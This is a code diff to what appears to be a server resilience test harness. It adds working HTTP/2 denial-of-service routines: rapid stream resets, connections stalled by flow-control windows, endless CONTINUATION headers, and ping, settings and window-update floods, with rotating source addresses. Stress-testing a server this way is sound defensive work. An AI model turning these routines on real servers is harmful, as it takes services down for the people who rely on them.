@@ -190,40 +190,126 @@ def http2_connect(target, source):
     return context.wrap_socket(made, server_hostname="a.test")
 
 
-def http2_abuse(target, _size, until):
-    """Streams opened and reset at once by either side, heads continued without end, pings and settings by the thousand, and replies
-    that nobody takes."""
-    tries, from_ = 0, sources(8, 16)
-    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
-    head = b"\x82\x86\x84\x41\x01a"  # GET http / of host a, by the static table
-    large = b"\x82\x86\x04\x06/large\x41\x01a"
+HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HTTP2_HEAD = b"\x82\x86\x84\x41\x01a"  # GET http / of host a, by the static table
+HTTP2_LARGE = b"\x82\x86\x04\x06/large\x41\x01a"
+WINDOW_MAX = 0x7FFFFFFF
+
+
+class Frames:
+    """Reads frames from a connection of HTTP/2."""
+
+    def __init__(self, connection):
+        self.connection, self.held = connection, b""
+
+    def read(self):
+        """The kind, flags and stream of the next frame."""
+        while len(self.held) < 9 or len(self.held) < 9 + int.from_bytes(self.held[:3], "big"):
+            read = self.connection.recv(1 << 17)
+            if not read:
+                raise ConnectionError
+            self.held += read
+        length = int.from_bytes(self.held[:3], "big")
+        kind, flags, stream = self.held[3], self.held[4], int.from_bytes(self.held[5:9], "big")
+        self.held = self.held[9 + length :]
+        return kind, flags, stream
+
+
+def reset_accepted(connection, until):
+    """Resets streams whose reply has begun, so that the server has accepted them. Returns how many, until the server ends the
+    connection."""
+    frames, resets, stream = Frames(connection), 0, 1
+    connection.sendall(HTTP2_PREFACE + frame(4, 0, 0, b"\0\x04\0\0\0\0"))
+    with contextlib.suppress(*GONE):
+        while time.monotonic() < until:
+            opened = range(stream, stream + 40, 2)
+            stream += 40
+            connection.sendall(b"".join(frame(1, 5, at, HTTP2_LARGE) for at in opened))
+            begun = set()
+            while len(begun) < len(opened):
+                kind, _, at = frames.read()
+                if kind == 1:
+                    begun.add(at)
+                elif kind == 7:
+                    raise ConnectionError
+            connection.sendall(b"".join(frame(3, 0, at, b"\0\0\0\x08") for at in opened))
+            resets += len(opened)
+    return resets
+
+
+def http2_resets(target, _size, until):
+    """Rapid reset after one round trip: counts the resets."""
+    resets, tries, from_ = 0, 0, sources(11, 16)
     while time.monotonic() < until:
         tries += 1
         with contextlib.suppress(*GONE):
             with http2_connect(target, from_[tries % len(from_)]) as connection:
-                connection.sendall(preface)
+                resets += reset_accepted(connection, until)
+    return resets
+
+
+def http2_stalls(target, size, until):
+    """Holds `size` connections with 128 requests for a large object each, of which it takes nothing: by turns without a window for any
+    reply, with a window of a byte for each, and with open windows while nothing is read."""
+    held, made, from_ = [], 0, sources(10, 40)
+    streams = b"".join(frame(1, 5, stream, HTTP2_LARGE) for stream in range(1, 257, 2))
+    windows = [0, 1, WINDOW_MAX]
+    while time.monotonic() < until:
+        alive = []
+        for connection in held:
+            try:
+                connection.sendall(frame(6, 0, 0, b"12345678"))
+                alive.append(connection)
+            except GONE:
+                connection.close()
+        held = alive
+        while len(held) < size and time.monotonic() < until:
+            made += 1
+            with contextlib.suppress(*GONE):
+                connection = http2_connect(target, from_[made % len(from_)])
+                settings = frame(4, 0, 0, b"\0\x04" + windows[made % 3].to_bytes(4, "big"))
+                opened = frame(8, 0, 0, (WINDOW_MAX - 65_535).to_bytes(4, "big"))
+                connection.sendall(HTTP2_PREFACE + settings + opened + streams)
+                held.append(connection)
+        time.sleep(min(1.0, max(0.0, until - time.monotonic())))
+    for connection in held:
+        connection.close()
+    return made
+
+
+def http2_abuse(target, _size, until):
+    """Streams that are reset before they are accepted and by the server, heads continued without end, and frames that carry nothing,
+    also while a request is under way."""
+    tries, from_ = 0, sources(8, 16)
+    preface = HTTP2_PREFACE + frame(4, 0, 0, b"")
+    head, large = HTTP2_HEAD, HTTP2_LARGE
+    while time.monotonic() < until:
+        tries += 1
+        with contextlib.suppress(*GONE):
+            with http2_connect(target, from_[tries % len(from_)]) as connection:
+                # In the second half of the tries a request is under way for which there is no window.
+                begun = frame(4, 0, 0, b"\0\x04\0\0\0\0") + frame(1, 5, 1, large) if tries % 12 >= 6 else b""
+                connection.sendall(preface + begun)
                 for at in range(200):
-                    streams = range(1 + 40 * at, 1 + 40 * at + 40, 2)
+                    first = 3 + 40 * at
+                    streams = range(first, first + 40, 2)
                     match tries % 6:
                         case 0:
                             out = b"".join(frame(1, 5, s, head) + frame(3, 0, s, b"\0\0\0\x08") for s in streams)
                         case 1:
-                            begin = frame(1, 0, 1, head) if at == 0 else b""
-                            out = begin + frame(9, 0, 1, b"\0\x01x\x7f\x81\x7e" + b"a" * 253) * 50
+                            begin = frame(1, 0, 3, head) if at == 0 else b""
+                            out = begin + frame(9, 0, 3, b"\0\x01x\x7f\x81\x7e" + b"a" * 253) * 50
                         case 2:
                             out = frame(6, 0, 0, b"12345678") * 500
                         case 3:
                             out = frame(4, 0, 0, b"\0\x03\0\0\0\x64") * 500
                         case 4:  # a window beyond what it may be, for which the server resets the stream
                             out = b"".join(frame(1, 5, s, large) + frame(8, 0, s, b"\x7f\xff\xff\xff") for s in streams)
-                        case 5:  # no window for any reply, or one of a byte
-                            out = b"" if at else frame(4, 0, 0, b"\0\x04\0\0\0" + bytes([tries // 6 % 2]))
-                            out += b"".join(frame(1, 5, s, large) for s in streams)
+                        case 5:
+                            out = (frame(2, 0, 5, b"\0\0\0\0\x10") + frame(8, 0, 0, b"\0\0\0\x01")) * 250
                     connection.sendall(out)
                     if select.select([connection], [], [], 0)[0] and not connection.recv(65536):
                         break
-                if tries % 6 == 5:
-                    time.sleep(0.2)
     return tries
 
 
@@ -257,5 +343,7 @@ ATTACKS = [
     ("broken TLS", broken_tls, 0, 1),
     ("endless heads", endless_heads, 0, 1),
     ("HTTP/2 abuse", http2_abuse, 0, 1),
+    ("HTTP/2 resets", http2_resets, 0, 1),
+    ("stalled HTTP/2", http2_stalls, 0.01, 1),
     ("malformed requests", malformed, 0, 1),
 ]
